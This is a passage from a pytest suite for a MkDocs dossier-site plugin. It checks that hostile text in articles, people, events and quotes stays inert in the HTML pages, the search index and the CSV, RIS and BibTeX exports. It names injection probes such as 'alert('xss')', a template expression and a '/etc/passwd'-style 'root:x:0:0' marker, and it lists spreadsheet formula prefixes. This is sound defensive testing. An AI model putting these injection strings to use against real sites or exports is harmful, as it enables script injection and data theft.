        assert "INHERIT:" not in html and "root:x:0:0" not in html  # no snippet was included
    index = json.loads((site / "search" / "search_index.json").read_text())
    for doc in index["docs"]:
        for key in ("title", "text"):
            found = scan(doc[key])
            assert found.active == [], (doc["location"], key, found.active)


def _expect_in_search(site: Path, location: str, *values: str) -> None:
    index = json.loads((site / "search" / "search_index.json").read_text())
    docs = [d for d in index["docs"] if d["location"].split("#")[0] == location]
    assert docs, location
    text = normalise(" ".join(" ".join(scan(d["title"]).text + scan(d["text"]).text)
                              for d in docs))
    for value in values:
        assert normalise(value) in text, f"search index of {location}: {value!r} missing"


def assert_exports(site: Path) -> None:
    data = json.loads((site / "dossier.json").read_text())
    art = data["articles"][0]
    assert (art["title"], art["outlet"], art["authors"], art["url"]) == (
        TITLE, OUTLET, AUTHORS, URL)
    person = next(p for p in data["people"] if p["id"] == "evil-person")
    assert (person["name"], person["aliases"], person["description"]) == (
        PERSON_NAME, ALIASES, DESCRIPTION)
    assert data["events"][0]["title"] == EVENT_TITLE
    csl = json.loads((site / "data" / "bibliography.csl.json").read_text())
    assert csl[0]["title"] == TITLE and csl[0]["note"] == NOTES
    # CSV: quoting keeps every value whole (commas, quotes, newlines) ...
    rows = list(csv.DictReader(io.StringIO((site / "data" / "people.csv").read_text())))
    row = next(r for r in rows if r["id"] == "evil-person")
    # (a cell that starts like a formula may be neutralised with a leading apostrophe)
    assert row["name"] == PERSON_NAME and row["description"] in (DESCRIPTION, "'" + DESCRIPTION)
    events = list(csv.DictReader(io.StringIO((site / "data" / "events.csv").read_text())))
    assert events[0]["title"] in (EVENT_TITLE, "'" + EVENT_TITLE)
    # ... RIS: every line is a tag line; the text cannot end the record early.
    for ris in (site / "data" / "bibliography.ris", site / "data" / "articles" / "hostile.ris"):
        lines = ris.read_text().splitlines()
        assert all(re.match(r"^[A-Z][A-Z0-9]  - ", line) or line == "" for line in lines), lines
        assert sum(line.startswith("TY  - ") for line in lines) == 1
        assert sum(line.startswith("ER  - ") for line in lines) == 1


@pytest.mark.slow
def test_hostile_text_through_the_plugin(project: Path) -> None:
    """Every text field hostile, built by the real plugin with `mkdocs build --strict`."""
    write_hostile_project(project)
    small_site(project)
    result = mkdocs(project, "build", "--strict")
    assert "Traceback" not in result.stderr
    site = project / "site"
    assert check_site(site, json.loads((site / "dossier.json").read_text())) == []
    assert_inert(site)
    article_page = site / "articles" / "2019" / "hostile" / "index.html"
    assert_shown(article_page, TITLE, OUTLET, *AUTHORS, URL, NOTES, *HOSTILE,
                 "seeds/raw/hostile.txt")
    assert_shown(site / "articles" / "2019" / "index.html", TITLE, OUTLET)
    person = site / "people" / "evil-person" / "index.html"
    assert_shown(person, PERSON_NAME, DESCRIPTION, *ALIASES, EVENT_TITLE)
    assert_shown(site / "people" / "index.html", PERSON_NAME, DESCRIPTION)
    event = site / "events" / "evil-event" / "index.html"
    assert_shown(event, EVENT_TITLE, LINE, PERSON_NAME)
    assert_shown(site / "events" / "index.html", EVENT_TITLE)
    assert_shown(site / "sources" / "2019" / "index.html", "Title", "alert('xss')",
                 "{{ config.site_name }}")
    for page, title in [(article_page, TITLE), (person, PERSON_NAME), (event, EVENT_TITLE)]:
        shown = normalise("".join(scan(page.read_text()).title))
        assert shown.startswith(normalise(title) + " - "), shown
    # The link to the original goes to exactly the address given, and only there.
    links = re.findall(r'<a href="([^"]*)" rel="noopener">', article_page.read_text())
    assert [scan(f'<a href="{h}">').text for h in links] == [[]]
    assert [_attr_value(h) for h in links] == [URL]
    _expect_in_search(site, "articles/2019/hostile/", TITLE, *HOSTILE[:6])
    _expect_in_search(site, "people/evil-person/", PERSON_NAME)
    assert_exports(site)


def _attr_value(raw: str) -> str:
    """An attribute value as the browser reads it (character references decoded)."""
    from html import unescape

    return unescape(raw)


@pytest.mark.slow
def test_hostile_annotations(project: Path) -> None:
    """Quotes, speakers, mentions, dates and warnings built from hostile text stay inert."""
    write_hostile_project(project)
    site = build_annotated_site(project, annotate_hostile)
    data = json.loads((site / "dossier.json").read_text())
    assert len(data["quotes"]) == 2 and data["events"][0]["sources"]
    assert check_site(site, data) == []
    assert_inert(site)
    article_page = site / "articles" / "2019" / "hostile" / "index.html"
    assert_shown(article_page, PERSON_NAME, f"{HOSTILE[1]} {HOSTILE[5]} needs review")
    html = article_page.read_text()
    # Attribute values built from names and labels are whole attributes, shown as text.
    labels = re.findall(r'data-label="([^"]*)"', html)
    assert {_attr_value(v) for v in labels} == {PERSON_NAME, LABEL}
    titles = {_attr_value(v) for v in re.findall(r'<time[^>]* title="([^"]*)"', html)}
    assert any(EVENT_TITLE in t for t in titles), titles
    speaker_page = site / "quotes" / "evil-person" / "index.html"
    assert_shown(speaker_page, f"{HOSTILE[0]} {HOSTILE[5]}", PERSON_NAME, TITLE)
    assert_shown(site / "quotes" / "unattributed" / "index.html",
                 f"{HOSTILE[4]} {HOSTILE[6]}", LABEL)
    assert_shown(site / "quotes" / "index.html", f"{HOSTILE[0]} {HOSTILE[5]}", PERSON_NAME)
    assert_shown(site / "people" / "evil-person" / "index.html", f"{HOSTILE[0]} {HOSTILE[5]}")
    assert_shown(site / "people" / "curly-person" / "index.html", "{{ config.site_name }}")
    rows = list(csv.DictReader(io.StringIO((site / "data" / "quotes.csv").read_text())))
    assert {r["text"].removeprefix("'") for r in rows} == {q["text"] for q in data["quotes"]}


@pytest.mark.slow
def test_csv_cells_cannot_be_formulas(project: Path) -> None:
    write_hostile_project(project)
    small_site(project)
    mkdocs(project, "build", "--strict")
    for name in ("people.csv", "events.csv", "quotes.csv"):
        for row in csv.reader(io.StringIO((project / "site" / "data" / name).read_text())):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


@pytest.mark.slow
def test_bibtex_cannot_be_broken_out_of(project: Path) -> None:
    write_hostile_project(project)
    small_site(project)
    mkdocs(project, "build", "--strict")
    site = project / "site"
    for bib in (site / "data" / "bibliography.bib", site / "data" / "articles" / "hostile.bib"):
        text = bib.read_text()
        assert len(re.findall(r"^\s*@", text, re.MULTILINE)) == 1, text
        entry = text[text.index("{"): text.rindex("}") + 1]
        depth = 0
        for i, c in enumerate(entry):  # BibTeX's own rule: every brace counts
            depth += {"{": 1, "}": -1}.get(c, 0)
            assert depth >= 1 or i == len(entry) - 1, f"the entry closes early: {entry[:i]}"
        assert depth == 0


def test_registry_values_keep_their_text(project: Path) -> None:
    """The registries are loaded with safe YAML and keep hostile text exactly."""
    write_hostile_project(project)
    problems = ProblemCollector()
    registry = load_registry(project / "seeds", project, problems)
    assert problems.problems == []
    person = registry.people["evil-person"]
    assert (person.name, list(person.aliases), person.description) == (
        PERSON_NAME, ALIASES, DESCRIPTION)
    assert yaml.safe_load(_q(EVENT_TITLE)) == registry.events["evil-event"].title


def test_annotators_keep_hostile_text(project: Path) -> None:
    """Whatever the annotators find, their spans cite the exact text (stubs find nothing)."""
    write_hostile_project(project)
    problems = ProblemCollector()
    registry = load_registry(project / "seeds", project, problems)
    article_ = load_article(project / "seeds" / "articles" / "hostile.md", project, problems)
    assert article_ is not None and problems.errors == []
    result = annotate_article(article_, registry)
    texts = {p.id: p.text for p in article_.paragraphs}
    for mention in result.annotations.mentions:
        s = mention.span
        assert texts[s.paragraph][s.start:s.end] == mention.text
    for date in result.annotations.dates:
        s = date.span
        assert texts[s.paragraph][s.start:s.end] == date.text


@pytest.mark.parametrize("text", ["« l'édile »", 'a "b" \\ c', "ligne\u2028séparée", "x\u0085y",
                                  "\ufeffdébut", "emoji 🎉"])
def test_a_hints_yaml_string_reads_back_as_written(text: str) -> None:
    # the front-matter lines hints suggest and the lock's pins are pasted into YAML as is
    from builder.errors import yaml_flow

    assert yaml.safe_load(f"k: {yaml_flow(text)}")["k"] == text
